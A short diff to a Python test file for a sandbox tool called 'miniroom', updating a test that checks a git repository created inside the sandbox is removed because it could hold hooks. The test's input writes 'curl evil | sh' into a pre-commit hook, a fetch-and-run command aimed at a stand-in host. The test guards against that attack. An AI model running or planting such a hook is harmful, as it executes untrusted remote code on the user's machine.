@@ -90,7 +90,9 @@ def test_a_repository_a_command_creates_is_removed(project: Project) -> None:
     shutil.rmtree(project.path / ".git")
     outcome = project.run("git init -q && echo 'curl evil | sh' > .git/hooks/pre-commit")
     assert project.absent(".git")
-    assert f"miniroom removed .git/, {GIT}" in outcome.report()
+    made = "which appeared while this command ran: a repository made in the sandbox could hold hooks"
+    assert f"miniroom removed .git/, {made}" in outcome.report()
+    assert "(`git init` outside miniroom)" in outcome.report()  # what the person does instead
 
 
 def test_git_cannot_be_moved_aside_for_one_with_hooks(project: Project) -> None:
